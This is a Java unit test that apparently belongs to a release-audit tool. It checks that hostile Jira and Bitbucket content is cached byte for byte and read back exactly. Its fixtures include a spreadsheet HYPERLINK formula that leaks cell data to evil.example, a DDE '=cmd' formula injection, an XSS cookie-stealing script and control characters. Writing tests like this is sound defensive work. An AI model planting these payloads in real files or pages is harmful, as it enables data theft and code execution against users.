package io.releasecopilot.source.live;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import io.releasecopilot.model.AuditInput;
import io.releasecopilot.model.Commit;
import io.releasecopilot.model.Story;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/**
 * Untrusted text (spreadsheet formulas, HTML and script, control characters, a 1 MB message, null and missing
 * fields, odd ref names) is stored byte for byte and read back exactly, without breaking the manifest.
 */
class HostileContentTest {

    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    private static final String SCRIPT = "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>";
    private static final String CONTROL = "ABC-2 bell\u0007 nul\u0000 esc\u001b[31mred\u001b[0m\r\ttab \u2028 \u200bzw";
    private static final String REF = "feature/<b>\"quoted\" \\ & ü";

    @RegisterExtension
    final FakeServer fake = new FakeServer();

    @TempDir
    Path cache;

    @Test
    void shouldStoreHostileContentRawAndReadItBackExactly() throws Exception {
        String huge = "ABC-3 " + "ü€x".repeat(350_000);
        String jiraPage = "{\"issues\":["
                + "{\"id\":\"1\",\"key\":\"ABC-1\",\"fields\":{\"summary\":" + json(FORMULA) + ",\"assignee\":null,"
                + "\"status\":{\"name\":" + json(SCRIPT) + ",\"statusCategory\":null},\"labels\":[null,"
                + json(CONTROL) + "],\"components\":[],\"fixVersions\":[{\"name\":\"R1 \\\"Q4\\\" \\\\ final\"}],"
                + "\"parent\":null,\"resolutiondate\":null,\"updated\":\"2026-03-10T16:29:31.871-0700\"}},"
                + "{\"id\":\"2\",\"key\":\"ABC-2\",\"fields\":{}},"
                + "{\"id\":\"3\",\"key\":\"ABC-3\",\"fields\":{\"summary\":null,\"issuetype\":null,\"updated\":\"soon\"}}"
                + "],\"isLast\":true}";
        fake.server().stubFor(get(urlPathEqualTo("/rest/api/3/search/jql"))
                .willReturn(aResponse().withBody(jiraPage.getBytes(StandardCharsets.UTF_8))));
        List<TestCommit> commits = List.of(
                new TestCommit(TestCommit.sha1("a"), Instant.parse("2026-03-01T10:00:00Z"), FORMULA, "=cmd|' /C calc'!A0",
                        "evil@example.com", false, List.of()),
                new TestCommit(TestCommit.sha1("b"), null, SCRIPT, "<b>Mallory</b>", "m@example.com", true,
                        List.of(TestCommit.sha1("a"), TestCommit.sha1("c"))),
                new TestCommit(TestCommit.sha1("c"), Instant.parse("2026-03-01T09:00:00Z"), CONTROL, "Dev", "d@x", true,
                        List.of()),
                new TestCommit(TestCommit.sha1("d"), Instant.parse("2026-03-01T08:00:00Z"), huge, "Dev", "d@x", true,
                        List.of()),
                new TestCommit(TestCommit.sha1("e"), Instant.parse("2026-03-01T07:00:00Z"), null, "Dev", "d@x", true,
                        List.of()));
        List<byte[]> served = fake.stubs().bitbucketCloud("acme", "portal", REF, null, commits, 100);
        FetchRequest sources = FetchRequest.builder().fixVersion("R1 \"Q4\" \\ final").jiraUrl(fake.url())
                .jiraFlavor("cloud").bitbucketUrl(fake.url()).bitbucketFlavor("cloud").workspace("acme").repo("portal")
                .branch(REF).build();

        FetchRunner.fetch(sources, cache, new TestHttp(), new TestHttp(), null);

        assertThat(Files.readAllBytes(cache.resolve("jira/page-00001.json")))
                .isEqualTo(jiraPage.getBytes(StandardCharsets.UTF_8));
        Path page = cache.resolve("bitbucket/portal/feature__b__quoted_______/page-00001.json");
        assertThat(Files.readAllBytes(page)).isEqualTo(served.get(0));
        assertThat(Files.size(page)).isGreaterThan(1_000_000);
        assertThat(new ObjectMapper().readTree(cache.resolve("manifest.json").toFile()).path("repositories").get(0)
                .path("refs").get(0).path("ref").asText()).isEqualTo(REF);

        AuditInput input = CacheReader.read(cache);
        assertThat(input.fixVersion()).isEqualTo("R1 \"Q4\" \\ final");
        Story first = input.stories().get(0);
        assertThat(first.summary()).isEqualTo(FORMULA);
        assertThat(first.status()).isEqualTo(SCRIPT);
        assertThat(first.statusCategory()).isEqualTo("undefined");
        assertThat(first.labels()).containsExactly(CONTROL);
        assertThat(first.assignee()).isNull();
        assertThat(input.stories().get(1).summary()).isEmpty();
        assertThat(input.stories().get(2).updated()).isNull();

        List<Commit> read = input.commits();
        assertThat(read).extracting(Commit::message).containsExactly(FORMULA, SCRIPT, CONTROL, huge, "");
        assertThat(read.get(0).author()).isEqualTo("=cmd|' /C calc'!A0");
        assertThat(read.get(1).author()).isEqualTo("<b>Mallory</b>");
        assertThat(read.get(1).date()).isNull();
        assertThat(read.get(1).parentCount()).isEqualTo(2);
        assertThat(read.get(0).branches()).containsExactly(REF);
        assertThat(input.warnings()).anyMatch(w -> w.contains("unreadable date"));
    }

    private static String json(String text) throws Exception {
        return new ObjectMapper().writeValueAsString(text);
    }
}
